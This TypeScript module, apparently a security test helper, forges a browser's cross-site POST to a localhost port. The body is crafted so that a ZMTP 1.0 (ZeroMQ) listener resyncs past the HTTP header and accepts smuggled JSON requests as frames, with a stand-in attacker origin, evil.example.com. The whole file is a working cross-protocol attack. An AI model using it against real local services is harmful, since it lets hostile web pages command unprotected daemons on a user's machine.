/**
 * The bytes that a web page in a browser can send to a port of this machine: an HTTP request with a
 * body of its choice. Read as ZMTP 1.0, which has no greeting, the header is a chain of frames of
 * any length. The body brings the reader into step and then contains requests, one in each frame.
 */
import { connect } from 'node:net';

const HEADERS = (length: number): string =>
  [
    'POST / HTTP/1.1',
    'Host: 127.0.0.1:5570',
    'Connection: keep-alive',
    `Content-Length: ${length}`,
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
    'Content-Type: text/plain',
    'Accept: */*',
    'Origin: https://evil.example.com',
    'Sec-Fetch-Site: cross-site',
    'Sec-Fetch-Mode: no-cors',
    'Referer: https://evil.example.com/',
    'Accept-Encoding: gzip, deflate, br, zstd',
    '',
    '',
  ].join('\r\n');

/** Empty frames with the flag `more`, from any first byte. */
const INTO_STEP = Buffer.alloc(300, 1);
/** A frame of nine bytes, or the flags of an earlier frame and a frame of eight: both end here. */
const IN_STEP = Buffer.from([9, 8, 0, 0, 0, 0, 0, 0, 0, 0]);

/** @param requests of at most 253 bytes */
export function forgedBody(requests: readonly object[]): Buffer {
  const frames = requests.map((request) => {
    const text = Buffer.from(JSON.stringify(request));
    return Buffer.concat([Buffer.from([text.length + 1, 0]), text]);
  });
  return Buffer.concat([INTO_STEP, IN_STEP, ...frames]);
}

/**
 * Sends it as a browser would. Resolves when the other end has closed, or has read all of it and is
 * silent.
 */
export async function postLikeABrowser(url: URL, body: Buffer, silenceMs: number): Promise<void> {
  const { promise, resolve, reject } = Promise.withResolvers<void>();
  const socket = connect(Number(url.port), url.hostname);
  socket.once('connect', () =>
    socket.write(Buffer.concat([Buffer.from(HEADERS(body.length)), body])),
  );
  socket.setTimeout(silenceMs, () => socket.destroy());
  socket.on('error', (error: NodeJS.ErrnoException) => {
    if (error.code !== 'ECONNRESET' && error.code !== 'EPIPE') reject(error);
  });
  socket.once('close', () => resolve());
  return promise;
}
